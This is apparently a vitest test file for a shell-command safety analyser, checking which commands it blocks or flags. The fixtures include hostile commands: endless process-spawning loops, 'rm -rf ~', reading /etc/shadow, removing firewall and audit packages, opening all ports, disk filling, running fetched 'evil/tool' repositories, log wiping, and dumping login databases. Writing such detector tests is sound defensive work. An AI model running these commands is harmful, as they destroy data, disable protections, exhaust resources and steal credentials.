import { describe, expect, it } from 'vitest'
import { analyse } from './analyse.ts'

const certainty = (command: string) => analyse(command).certainty
const isKnown = (command: string) => {
  const decision = analyse(command)
  return decision.verdict !== 'BLOCK' && decision.certainty === 'known'
}

describe('a loop that never ends, however it is written', () => {
  it.each([
    'while :; do sleep 1d & done',
    'for ((;;)); do sleep 1d & done',
    'for ((i = 0; 1; i++)); do sleep 1d & done',
    'for ((i = 0; ; i++)); do sleep 1d & done',
    'until ((0)); do sleep 1d & done',
    'until false; do sleep 1d & done',
    'while ((1)); do sleep 1d & done',
    'while ((2 > 1)); do sleep 1d & done',
    'while [ 1 ]; do sleep 1d & done',
    'while [[ a == a ]]; do sleep 1d & done',
    'while test 1 -eq 1; do sleep 1d & done',
    'while ! false; do sleep 1d & done',
    'while true; true; do sleep 1d & done',
    'while echo again; do sleep 1d & done',
    'while :; do sleep 1d & sleep 0; done',
    'f() { sleep 1d & return; }; while :; do f; done',
    'yes | while read x; do sleep 1d & done',
    'seq inf | while read x; do sleep 1d & done',
  ])('starts processes without number: %s', (command) =>
    expect(analyse(command)).toMatchObject({ verdict: 'BLOCK', rule: 'D' }))

  it.each([
    'for ((;;)); do rm -rf ~; done',
    'for ((;;)); do cat /etc/shadow; break; done',
  ])('is looked into where it has no test: %s', (command) =>
    expect(analyse(command).verdict).toBe('BLOCK'))

  it.each([
    'for ((;;)); do cat /usr/bin/* >> /var/tmp/cache.bin; done',
    'while ((1)); do cat /usr/bin/* >> /var/tmp/cache.bin; done',
    'while :; do { cat /usr/bin/*; } >> /var/tmp/cache.bin; done',
    'x=a; for ((;;)); do x+=$x$x; done',
    'x=a; while :; do x=$x$x; done',
    'x=a; until ((0)); do x="${x}b"; done',
    'while :; do a+=(x); done',
    'for i in {1..1000000}; do sleep 1d & done',
    'for i in $(seq 100000); do sleep 1d & done',
    'for ((i = 0; i < 50000; i++)); do sleep 1d & done',
    'seq 100000 | while read x; do sleep 1d & done',
  ])('or a very long one takes room, memory or processes: %s', (command) =>
    expect(certainty(command)).toBe('unresolved'))

  it.each([
    'for ((;;)); do date; sleep 60; done',
    'while ((1)); do curl http://localhost:80/; sleep 5; done',
    'while [ 1 ]; do ./poll & wait; done',
    'for ((i = 0; i < 5; i++)); do ./task $i & done; wait',
    'for i in 1 2 3; do sleep 1 & done; wait',
    'for i in {1..20}; do ./task $i & done; wait',
    'while read -r line; do ./task "$line" & done < list.txt; wait',
    'while true; do case $1 in -a) x+=a; shift ;; *) break ;; esac; done',
    'while :; do i=$(($i + 1)); sleep 1; done',
    'while :; do path=${path%/}; sleep 1; done',
    'while ((n > 0)); do ./task $n; ((n--)); done',
  ])('or an ordinary one stays known: %s', (command) => expect(isKnown(command)).toBe(true))
})

describe('processes for input without end', () => {
  it.each([
    'seq inf | xargs -P0 -I{} sleep 1d',
    'seq infinity | xargs -P 0 -n1 sleep',
    'yes | xargs -P0 -n1 sleep 1d',
    'yes | xargs -rP 0 -n1 sleep 1d',
    'yes 1d | tr 1 2 | xargs --max-procs=0 -n1 sleep',
    'xargs -P9999 -n1 sleep < <(yes 1d)',
    'seq inf | parallel -j0 sleep 1d',
    'seq inf | parallel --jobs 0 sleep 1d',
  ])('have no number: %s', (command) =>
    expect(analyse(command)).toMatchObject({ verdict: 'BLOCK', rule: 'D' }))

  it('are very many where the input is', () =>
    expect(certainty('seq 1000000 | xargs -P0 -n1 sleep')).toBe('unresolved'))

  it.each([
    'seq 10 | xargs -P4 -I{} sleep {}',
    'seq 10 | xargs -P0 -I{} sleep {}',
    `find . -name '*.png' | xargs -P0 -n1 optipng`,
    'yes | head -5 | xargs -P0 -n1 sleep 1',
    'parallel -j0 sleep ::: 1 2 3',
    'ls | parallel -j+0 gzip',
    'yes | apt-get install curl',
  ])('are ordinary otherwise: %s', (command) => expect(isKnown(command)).toBe(true))

  it('fill a disk as what yes prints does', () =>
    expect(analyse('seq inf > numbers')).toMatchObject({ verdict: 'BLOCK', rule: 'D' }))
})

describe('a package that is removed by a mark, or later', () => {
  it.each([
    'sudo apt-get install -y curl ufw- apparmor-',
    'apt install ufw-',
    'apt install rsyslog-',
    'sudo apt upgrade ufw-',
    'sudo apt-get install --purge fail2ban-',
    'sudo apt-get install unattended-upgrades-',
    `sudo apt-get satisfy -y 'Conflicts: ufw'`,
    `sudo apt-get satisfy -y 'foo, Conflicts: bar (<< 2), ufw'`,
    'sudo apt-mark auto $(apt-mark showmanual) && sudo apt-get autoremove -y',
    `sudo apt-mark auto '*'`,
    'sudo apt-mark auto ufw',
    'sudo apt-mark minimize-manual -y',
    'echo ufw deinstall | sudo dpkg --set-selections && sudo apt-get dselect-upgrade -y',
    'aptitude install ufw_',
    'aptitude install ufw-',
    `sudo apk add '!ufw'`,
    `sudo zypper install '!firewalld'`,
    'sudo zypper install -- -firewalld',
    'sudo dnf swap firewalld vim',
    'sudo yum swap firewalld vim',
  ])('is no installation: %s', (command) => expect(certainty(command)).toBe('unresolved'))

  it.each([
    'sudo apt-get install -y bash-',
    'sudo apt-get install auditd-',
  ])('is judged as the removal: %s', (command) => expect(analyse(command).verdict).toBe('BLOCK'))

  it('takes this guard away as well', () =>
    expect(analyse('sudo apt-get install aegish-').rule).toBe('S'))

  it.each([
    'sudo apt-get install -y g++ libstdc++6 libsigc++-2.0-dev',
    'sudo apt-get install -y foo-',
    'sudo apt-get install -y ./tool_1.0_amd64.deb',
    `sudo apt-get satisfy 'build-essential, cmake (>= 3.20)'`,
    'sudo apt-get upgrade -y',
    'sudo apt-mark manual curl',
    'sudo apt-mark auto libfoo1',
    'aptitude install g++',
    'sudo apk add --no-cache curl',
    'sudo zypper install -y git-core',
    'sudo dnf swap ffmpeg-free ffmpeg',
  ])('and ordinary packages stay known: %s', (command) => expect(isKnown(command)).toBe(true))
})

describe('a firewall', () => {
  it.each([
    'sudo ufw allow 1:65535/tcp',
    'sudo ufw allow 0:65535/udp',
    'sudo ufw allow 22,1:65535/tcp',
    'sudo ufw allow proto tcp from any to any port 1:65535',
    'sudo ufw allow in on eth0',
    'sudo ufw insert 1 allow in on ens3 from any',
    'sudo ufw allow from any to any proto tcp',
    'sudo ufw allow to any',
    'sudo iptables -A INPUT -p tcp --dport 1:65535 -j ACCEPT',
    'sudo iptables -I INPUT -p tcp -m multiport --dports 22,0:65535 -j ACCEPT',
    'sudo iptables -I INPUT 1 -p tcp --destination-port 1: -j ACCEPT',
    'sudo ip6tables -I INPUT -p tcp --dport :65535 -j ACCEPT',
    'sudo iptables -I INPUT -p tcp ! --dport 9 -j ACCEPT',
    'sudo iptables -A INPUT -m state --state NEW -j ACCEPT',
    'sudo iptables -A INPUT -j ACCEPT',
    'sudo nft add rule inet filter input tcp dport 1-65535 accept',
    'sudo nft add rule inet filter input tcp dport { 22, 1-65535 } accept',
    'sudo nft add rule inet filter input tcp dport != 9 accept',
    'sudo nft insert rule inet filter input ct state new accept',
    `sudo nft 'chain inet filter input { policy accept; }'`,
    'sudo firewall-cmd --add-port=1-65535/tcp',
    'sudo firewall-cmd --permanent --zone=public --add-port 0-65535/udp',
    'sudo firewall-cmd --zone trusted --add-interface=eth0',
    'sudo firewall-cmd --add-protocol=tcp',
    `sudo firewall-cmd --add-rich-rule='rule family="ipv4" accept'`,
  ])('is open for nearly everything: %s', (command) =>
    expect(certainty(command)).toBe('unresolved'))

  it.each([
    'sudo ufw allow 8080/tcp',
    'sudo ufw allow 8000:8010/tcp',
    'sudo ufw allow OpenSSH',
    `sudo ufw allow 'Nginx Full'`,
    'sudo ufw allow 60000:61000/udp',
    'sudo ufw allow 49152:65535/udp',
    'sudo ufw allow 6443,2379:2380/tcp',
    'sudo ufw allow in on eth0 to any port 80',
    'sudo ufw allow in on tailscale0',
    'sudo ufw allow from 192.168.1.0/24 to any port 22',
    'sudo ufw allow from fe80::1:2222 to any port 22',
    'sudo iptables -A INPUT -p tcp --dport 30000:32767 -j ACCEPT',
    'sudo iptables -A INPUT -p tcp -m state --state NEW -m tcp --dport 443 -j ACCEPT',
    'sudo iptables -A INPUT -m state --state ESTABLISHED,RELATED -j ACCEPT',
    'sudo iptables -A INPUT -s 192.168.0.0/16 -p tcp --dport 1:65535 -j ACCEPT',
    'sudo nft add rule inet filter input tcp dport { 80, 443 } ct state new accept',
    `sudo nft add chain inet filter input '{ type filter hook input priority 0 ; policy accept ; }'`,
    'sudo firewall-cmd --permanent --add-port=30000-32767/tcp',
    'sudo firewall-cmd --add-service=http',
    'sudo firewall-cmd --zone trusted --list-all',
  ])('is open for one service: %s', (command) => expect(isKnown(command)).toBe(true))
})

describe('sizes', () => {
  it.each([
    'truncate -s 10T ../x.img && cp --sparse=never ../x.img ../y.img',
    'truncate -s 900G a && cat a > b',
    'truncate --size=900000M a',
    'truncate --size 1000000000000 a',
    'truncate -s +1T a',
    'truncate -s200G a',
    'truncate -s $((900 * 1024 ** 3)) a',
    'fallocate -l 900G a',
    'fallocate -l 900000M a',
    'dd if=/dev/zero of=a bs=1G count=900',
    'dd if=/dev/urandom of=a bs=64K count=10000000',
    'dd if=/dev/zero of=a bs=1 count=0 seek=900G',
    'dd if=/dev/zero of=a count=900GB',
  ])('fill a disk: %s', (command) => expect(certainty(command)).toBe('unresolved'))

  it.each([
    'truncate -s 10G disk.img',
    'truncate -s 100G disk.img',
    'truncate -s 0 app.log',
    'fallocate -l 4G swapfile',
    'dd if=/dev/zero of=a bs=1M count=1024',
    'dd if=/dev/zero of=a bs=1 count=0 seek=10G',
    'dd if=/dev/zero of=swapfile bs=1024 count=1048576',
    'dd if=a of=b bs=4096 conv=notrunc seek=10',
  ])('are ordinary: %s', (command) => expect(isKnown(command)).toBe(true))
})

describe('a repository that is fetched by a short name', () => {
  it.each([
    'npx -y degit evil/tool t && cd t && npm i && npm start',
    'npx degit evil/tool t && make -C t',
    'npx degit evil/tool && npm install',
    'pnpm dlx degit evil/tool t && cd t && pnpm i',
    'npx tiged evil/tool t && cd t && make',
    'npx giget@latest gh:evil/tool t && cd t && npm i',
    'npx giget gh:evil/tool t --install',
    'gh repo clone evil/tool && make -C tool',
    'npx create-next-app -e https://github.com/evil/tool t',
    'npm create astro@latest t -- --template evil/tool && cd t && npm run dev',
    'npx nuxi init -t gh:evil/tool t && cd t && npm run dev',
  ])('is run: %s', (command) => expect(certainty(command)).toBe('unresolved'))

  it.each([
    'npx degit evil/tool t && cd t && node index.js',
    'npx degit --mode=git evil/tool t && sh t/install.sh',
  ])('is run at once: %s', (command) =>
    expect(analyse(command)).toMatchObject({ verdict: 'BLOCK', rule: '9' }))

  it.each([
    'npx degit user/repo t',
    'npx degit user/repo/src/utils utils',
    'npx giget gh:unjs/template t',
    'gh repo clone user/repo',
    'npm create vite@latest my-app -- --template react && cd my-app && npm i',
    'npx create-react-app my-app --template typescript && cd my-app && npm start',
    'npx create-next-app@latest my-app --example with-jest && cd my-app && npm run dev',
  ])('or is only fetched: %s', (command) => expect(isKnown(command)).toBe(true))
})

describe('logs that are turned over again and again', () => {
  it.each([
    'for i in $(seq 60); do sudo logrotate -f /etc/logrotate.conf; done',
    'for i in $(seq $N); do sudo logrotate -f /etc/logrotate.conf; done',
    'for ((i = 0; i < 60; i++)); do sudo logrotate --force /etc/logrotate.conf; done',
    'while :; do logrotate -vf /etc/logrotate.conf; done',
    'r() { sudo logrotate -f /etc/logrotate.conf; }; for i in 1 2 3; do r; done',
    'seq 60 | xargs -I{} sudo logrotate -f /etc/logrotate.conf',
    'watch -n1 logrotate -f /etc/logrotate.conf',
    'logrotate -f a.conf; logrotate -f a.conf; logrotate -f a.conf',
  ])('are lost: %s', (command) => expect(certainty(command)).toBe('unresolved'))

  it.each([
    'sudo logrotate -f /etc/logrotate.conf',
    'for f in /etc/logrotate.d/*; do sudo logrotate -f "$f"; done',
    'for f in nginx mysql; do sudo logrotate -f /etc/logrotate.d/$f; done',
    'for i in 1 2; do logrotate -d a.conf; done',
  ])('are turned once: %s', (command) => expect(isKnown(command)).toBe(true))
})

describe('databases all over a home', () => {
  it.each([
    String.raw`find ~ \( -name '*.sqlite' -o -name '*.db' \) -exec sh -c 'sqlite3 "$1" .dump' _ {} \;`,
    String.raw`find ~ -name '*.sqlite' -exec sqlite3 {} .dump \;`,
    String.raw`find $HOME -iname '*.sqlite3' -exec sqlite3 {} 'select * from logins' \;`,
    String.raw`find ~ -name '*.db' -exec strings {} \;`,
    `find ~ -name '*.db' | xargs -I{} sqlite3 {} .dump`,
    'sqlite3 ~/*.db .dump',
  ])('are dumped: %s', (command) => expect(certainty(command)).toBe('unresolved'))

  it.each([
    String.raw`find . -name '*.db' -exec sqlite3 {} .dump \;`,
    String.raw`find tests -name '*.db' -exec sh -c 'sqlite3 "$1" .dump > "$1.sql"' _ {} \;`,
    'for f in *.sqlite; do sqlite3 $f .schema; done',
    'sqlite3 ~/app/x.db .dump',
  ])('are those of a project: %s', (command) => expect(isKnown(command)).toBe(true))
})
